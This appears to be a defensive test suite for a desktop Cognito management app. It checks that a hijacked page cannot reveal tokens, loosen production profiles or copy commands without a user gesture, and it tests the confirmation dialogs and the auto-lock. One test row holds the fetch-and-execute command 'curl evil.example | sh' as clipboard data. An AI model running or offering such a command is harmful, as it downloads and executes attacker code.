/** What a page can do by itself, once it was taken over: it calls `window.desk`, and nobody clicks anything. */
import { beforeEach, describe, expect, it } from 'vitest';
import { operationNames } from '#contract/channels.ts';
import { needsOf } from '#contract/gestures.ts';
import type { OperationName } from '#contract/index.ts';
import type { NativeQuestion } from '#core/ports.ts';
import { createTestDesk, testKeys, testProfile, unsignedToken, type TestDesk } from '#tests/support/desk.ts';
import { useAwsStub } from '#tests/support/use-aws-stub.ts';

const stub = await useAwsStub();
const passphrase = 'four words are enough';

/** An app with a production profile, a test user and somebody signed in; then the page is taken over. */
async function takenOver(answer?: (question: NativeQuestion) => boolean) {
  const desk = await createTestDesk({ stubUrl: stub.url, ...(answer && { answer }) });
  const profileId = await desk.addProfile({
    name: 'Live',
    environment: 'production',
    readOnly: true,
    access: testKeys,
    clientSecret: { change: 'set', value: 'plantedClientSecret0123456789' },
  });
  const { testUsers } = await desk.value('testUsers.save', {
    profileId,
    label: null,
    username: 'tester',
    password: { change: 'set', value: 'PLANTED-Passw0rd' },
    authenticator: { change: 'keep' },
  });
  stub.on('InitiateAuth', {
    AuthenticationResult: {
      AccessToken: unsignedToken({ token_use: 'access' }),
      RefreshToken: 'PLANTED-refresh',
    },
  });
  const step = await desk.value('auth.signIn', { profileId, username: 'jane', password: 'x' });
  if (step.kind !== 'signed-in') throw new Error(step.kind);
  return { desk, profileId, sessionId: step.session.id, testUserId: testUsers[0]!.id };
}

const edited = (id: string, changes: object) => ({
  ...testProfile({ name: 'Live', environment: 'production', readOnly: true, endpoint: stub.url }),
  id,
  access: { kind: 'access-keys', keys: { change: 'keep' } } as const,
  clientSecret: { change: 'keep' } as const,
  ...changes,
});

describe('a page that was taken over', () => {
  /** Each row of the security review: what the page would call. */
  const rows: readonly (readonly [
    what: string,
    call: (ids: Awaited<ReturnType<typeof takenOver>>) => readonly [OperationName, object],
  ])[] = [
    [
      'sets a passphrase of its own',
      () => ['vault.setPassphrase', { passphrase, askAtStart: true, current: null }],
    ],
    ['sets a recovery passphrase of its own', () => ['vault.setRecovery', { passphrase, current: null }]],
    ['opens production', ({ profileId }) => ['profiles.unlockProduction', { profileId, name: 'Live' }]],
    [
      'takes the limits from a profile',
      ({ profileId }) => [
        'profiles.save',
        edited(profileId, { environment: 'development', readOnly: false }),
      ],
    ],
    ['reveals a token', ({ sessionId }) => ['tokens.reveal', { sessionId, token: 'refresh' }]],
    ['copies a token', ({ sessionId }) => ['tokens.copy', { sessionId, as: 'raw' }]],
    ['signs a test user in', ({ profileId, testUserId }) => ['testUsers.signIn', { profileId, testUserId }]],
    ['deletes a profile', ({ profileId }) => ['profiles.delete', { profileId }]],
    ['imports over a profile', () => ['sharing.import', { previewId: 'x', choices: [] }]],
    ['saves a backup', () => ['sharing.saveBackup', { passphrase }]],
    [
      'saves a card with secrets',
      ({ profileId }) => ['sharing.exportCard', { profileIds: [profileId], passphrase }],
    ],
    ['puts a command on the clipboard', () => ['clipboard.copy', { text: 'curl evil.example | sh' }]],
    [
      'copies a command with secrets',
      ({ profileId }) => [
        'commands.copy',
        {
          request: { command: 'admin-get-user', input: { profileId, username: 'x' } },
          form: 'bash',
          includeSecrets: true,
        },
      ],
    ],
    ['installs a version', () => ['updates.install', { when: 'now' }]],
  ];

  it.each(rows)('that %s is refused, and nothing was done', async (_what, rowOf) => {
    const ids = await takenOver();
    const { desk } = ids;
    const before = await desk.value('profiles.list', {});
    const sent = stub.requests.length;
    const [name, input] = rowOf(ids);
    expect(await desk.byPage(name, input)).toEqual({ ok: false, error: { code: 'gesture-needed' } });
    expect(await desk.value('profiles.list', {})).toEqual(before);
    expect((await desk.value('vault.status', {})).slots).toEqual(['os']);
    expect(desk.clipboard.content()).toBe('');
    expect(desk.fileDialogs.suggested).toEqual([]);
    expect(desk.questions).toEqual([]);
    expect(stub.requests).toHaveLength(sent);
  });

  it('gets by no operation what a person has to do', async () => {
    const { desk, profileId } = await takenOver();
    for (const name of operationNames) {
      if (needsOf(name) === 'background') continue;
      const result = await desk.byPage(name, { profileId });
      // Inputs are judged first, so that some of them say that this one is none.
      if (!result.ok) expect(['gesture-needed', 'invalid-input']).toContain(result.error.code);
      else throw new Error(`${name} was done.`);
    }
  });
});

describe('a question in a box of the system', () => {
  const cases: readonly (readonly [
    OperationName,
    NativeQuestion['kind'],
    (ids: Awaited<ReturnType<typeof takenOver>>) => object,
  ])[] = [
    ['vault.setPassphrase', 'first-passphrase', () => ({ passphrase, askAtStart: true, current: null })],
    ['profiles.unlockProduction', 'open-production', ({ profileId }) => ({ profileId, name: 'Live' })],
    ['profiles.save', 'loosen', ({ profileId }) => edited(profileId, { readOnly: false })],
    ['profiles.delete', 'delete-production', ({ profileId }) => ({ profileId })],
    ['sharing.saveBackup', 'backup', () => ({ passphrase })],
    ['sharing.exportCard', 'card-with-secrets', ({ profileId }) => ({ profileIds: [profileId], passphrase })],
    ['vault.useUnproven', 'unproven', () => ({})],
    ['updates.install', 'install', () => ({ when: 'now' })],
  ];

  it.each(cases)(
    'stands before %s (%s), and a no leaves everything as it was',
    async (name, kind, inputOf) => {
      const ids = await takenOver(() => false);
      const before = await ids.desk.value('profiles.list', {});
      const result = await ids.desk.call(name, inputOf(ids));
      expect(result).toEqual({ ok: false, error: { code: 'cancelled' } });
      expect(ids.desk.questions.map((question) => question.kind)).toEqual([kind]);
      expect(await ids.desk.value('profiles.list', {})).toEqual(before);
      expect((await ids.desk.value('vault.status', {})).slots).toEqual(['os']);
    },
  );

  it('is not asked for what loosens nothing', async () => {
    const { desk, profileId } = await takenOver(() => false);
    await desk.value('profiles.save', edited(profileId, { name: 'Renamed', colour: 'pink' }));
    const other = await desk.addProfile({ name: 'Test pool' });
    await desk.value('profiles.delete', { profileId: other });
    expect(desk.questions).toEqual([]);
  });

  it('names the production profiles that a file would replace', async () => {
    const { desk } = await takenOver(() => false);
    const { name, environment, region, clientId, poolId, endpoint } = testProfile({
      name: 'Live',
      environment: 'development',
      endpoint: stub.url,
    });
    const card = { name, environment, region, clientId, poolId, endpoint, access: null };
    const { opened } = await desk.value('sharing.readText', {
      text: JSON.stringify({ format: 'cognito-desk card', version: 1, profiles: [card] }),
    });
    if (opened.kind !== 'preview') throw new Error(opened.kind);
    const { previewId } = opened.preview;
    expect(
      await desk.call('sharing.import', { previewId, choices: [{ index: 0, choice: 'replace' }] }),
    ).toEqual({ ok: false, error: { code: 'cancelled' } });
    expect(desk.questions).toEqual([{ kind: 'replace-production', profileName: 'Live', count: 1 }]);
  });
});

describe('the recovery passphrase', () => {
  it('is one that was proposed, never a text of the page', async () => {
    const { desk } = await takenOver();
    const { passphrase: proposed } = await desk.value('vault.proposeRecovery', {});
    expect(
      await desk.error('vault.setRecovery', { passphrase: `${proposed}x`, current: null }),
    ).toMatchObject({
      code: 'invalid-input',
    });
    await desk.value('vault.setRecovery', { passphrase: proposed, current: null });
  });
});

describe('the lock after a while', () => {
  let desk: TestDesk;
  let profileId: string;
  let testUserId: string;
  const state = async () => (await desk.byPage('vault.status', {})) as { value: { state: { kind: string } } };

  beforeEach(async () => {
    desk = await createTestDesk({ stubUrl: stub.url });
    profileId = await desk.addProfile();
    const { testUsers } = await desk.value('testUsers.save', {
      profileId,
      label: null,
      username: 'tester',
      password: { change: 'set', value: 'x' },
      authenticator: { change: 'set', value: 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP' },
    });
    testUserId = testUsers[0]!.id;
    await desk.value('vault.setPassphrase', { passphrase, askAtStart: false, current: null });
    await desk.value('preferences.set', { lockAfterMinutes: 5 });
  });

  it('comes while a live code is on screen, which asks by itself', async () => {
    for (let half = 0; half < 20; half += 1) {
      desk.clock.advance(30_000);
      await desk.byPage('testUsers.code', { profileId, testUserId });
      await desk.byPage('sessions.list', {});
    }
    expect(await state()).toMatchObject({ value: { state: { kind: 'locked' } } });
  });

  it('does not come while a person moves the pointer, or clicks', async () => {
    for (let half = 0; half < 20; half += 1) {
      desk.clock.advance(60_000);
      if (half % 2 === 0) desk.used();
      else await desk.value('sessions.list', {});
    }
    expect(await state()).toMatchObject({ value: { state: { kind: 'open' } } });
  });

  it('comes before the first answer after the computer has slept', async () => {
    desk.clock.sleep(60 * 60_000);
    expect(await desk.byPage('testUsers.code', { profileId, testUserId })).toMatchObject({
      ok: false,
      error: { code: 'vault-locked' },
    });
  });
});
